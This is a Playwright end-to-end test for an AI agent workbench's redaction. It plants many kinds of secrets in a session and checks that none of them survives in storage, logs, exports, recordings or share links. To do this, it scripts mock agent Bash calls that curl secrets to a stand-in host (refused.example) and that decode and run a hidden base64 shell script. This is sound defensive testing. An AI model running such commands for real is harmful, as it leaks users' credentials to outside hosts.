/**
 * One secret of every kind through a whole session: typed, said by the model, in a call's input, printed by a program in pieces and as
 * a result too long for the log, in addresses of refused requests. Afterwards nothing of any is in anything that is kept, sent or
 * handed on: every store of the browser byte for byte, log, requests, link, recording, exports, screen and console.
 */
import { patience } from '../../scripts/lib/testing/patience.mjs'
import { readFile } from 'node:fs/promises'
import { inflateSync, strFromU8, unzipSync } from 'fflate'
import { OWN, PLANTED } from '../../src/agent/redact/testing/planted.ts'
import { text, toolUse } from '../model-server/turn.ts'
import { storedBytes } from '../support/stored-bytes.ts'
import { expect, test } from '../support/test.ts'

const ALL = PLANTED.map((planted) => planted.text).join('\n')
/** Writes what it decodes a few bytes at a time, again and again: more than a result may have. */
const PRINT = `
const text = Buffer.from(require('fs').readFileSync('kinds.b64', 'utf8'), 'base64').toString()
for (let round = 0; round < 8; round += 1)
  for (let at = 0; at < text.length; at += 11) process.stdout.write(text.slice(at, at + 11))
`
/** The deflated part of a link, after the number of its form and before its check. */
const LINK = /#s=1([\w-]+)[\w-]{8}$/

test('none of all kinds of secrets is anywhere after a session that was full of them', async ({
  workbench,
  model,
}) => {
  test.setTimeout(patience(240_000))
  const { page } = workbench
  const said: string[] = []
  page.on('console', (message) => said.push(message.text()))
  await workbench.open()
  await workbench.configure(model)
  await page.getByRole('button', { name: 'Settings' }).first().click()
  const settings = page.getByRole('dialog', { name: 'Settings' })
  await settings.getByLabel('Hidden value').fill(OWN)
  await settings.getByLabel('Never allow').fill('WebFetch(domain:refused.example)')
  await workbench.saveSettings()

  // Secrets by their own form; a password is one by the text before it.
  const addresses = PLANTED.filter(({ name }) => !/^(assignment|URL|Bearer)$/.test(name)).map(
    ({ secret }) => `curl -s 'https://refused.example/?q=${encodeURIComponent(secret)}&r=1'`,
  )
  await workbench.exec(`cat > kinds.b64 <<'E'\n${Buffer.from(ALL).toString('base64')}\nE\n`)
  await workbench.exec(`cat > print.js <<'E'\n${PRINT}\nE\n`)
  await workbench.exec(`cat > ask.b64 <<'E'\n${Buffer.from(addresses.join('\n')).toString('base64')}\nE\n`)
  model.setScript([
    { content: [text('I look.'), toolUse('Bash', { command: 'node print.js' })] },
    { content: [toolUse('Bash', { command: `true <<'KINDS'\n${ALL}\nKINDS\n` })] },
    {
      content: [toolUse('Bash', { command: 'base64 -d ask.b64 > /tmp/ask.sh; sh /tmp/ask.sh; echo asked' })],
    },
    { content: [text(ALL)] },
  ])
  await page.addLocatorHandler(workbench.permission, async () => {
    await workbench.permission.getByRole('button', { name: 'Allow once' }).click()
  })
  await workbench.ask(ALL)
  await expect(workbench.answers.last()).toContainText('[REDACTED]')
  const events = await workbench.events()
  // All of it has happened: otherwise there would be nothing to find.
  expect(events.filter(({ type }) => type === 'exit_decided').length).toBe(addresses.length)
  expect(events.filter(({ type }) => type === 'tool_result')).toHaveLength(3)
  expect(model.messageRequests().length).toBe(4)

  const sinks: { where: string; text: string }[] = [
    ...(await storedBytes(page)),
    { where: 'log', text: JSON.stringify(events) },
    { where: 'requests', text: JSON.stringify(model.messageRequests()) },
    { where: 'screen', text: await workbench.transcript() },
    { where: 'console', text: said.join('\n') },
  ]
  const recording = await page.evaluate(async () => [...(await window.vivarium.session.recording())])
  for (const [name, data] of Object.entries(unzipSync(new Uint8Array(recording))))
    sinks.push({ where: `recording: ${name}`, text: strFromU8(data, true) })

  await page.getByRole('button', { name: 'Share', exact: true }).click()
  const share = page.getByRole('dialog', { name: 'Share this session' })
  for (const format of ['html', 'markdown', 'jsonl', 'log']) {
    await share.getByLabel('As text').selectOption(format)
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      share.getByRole('button', { name: 'Download the text' }).click(),
    ])
    sinks.push({ where: `export: ${format}`, text: await readFile(await download.path(), 'latin1') })
  }
  const link = await share.getByRole('textbox', { name: 'Link' }).inputValue()
  const payload = LINK.exec(link)?.[1] ?? ''
  expect(payload.length).toBeGreaterThan(500)
  sinks.push({ where: 'link', text: strFromU8(inflateSync(Buffer.from(payload, 'base64url'))) })

  let cases = 0
  const found: string[] = []
  for (const { where, text: kept } of sinks) {
    // As JSON has it: line ends are written out, in a text in a text twice.
    const plain = kept.replaceAll(/\\+n/g, '\n').replaceAll(/\\+"/g, '"')
    for (const { name, secret, parts } of PLANTED) {
      cases += 1
      if ([secret, ...parts].some((part) => plain.includes(part))) found.push(`${name} in ${where}`)
    }
  }
  const stores = sinks.filter(({ where }) => where.includes('/')).length
  console.log(
    `secrets in a whole session: ${PLANTED.length} kinds, ${sinks.length} sinks (${stores} stores of the database and files), ${cases} cases, ${found.length} found`,
  )
  expect(found).toEqual([])
  // The search finds texts that are no secrets, also in packs and in the link.
  const ofFile = Buffer.from(ALL).toString('base64').slice(0, 60)
  const packs = 'private file system/contents/packs/'
  for (const where of ['vivarium/events', packs, 'requests', 'screen', 'log', 'link']) {
    const sign = where === packs ? ofFile : 'The key is'
    const has = sinks.some((sink) => sink.where.startsWith(where) && sink.text.includes(sign))
    expect({ where, has }).toEqual({ where, has: true })
  }
})
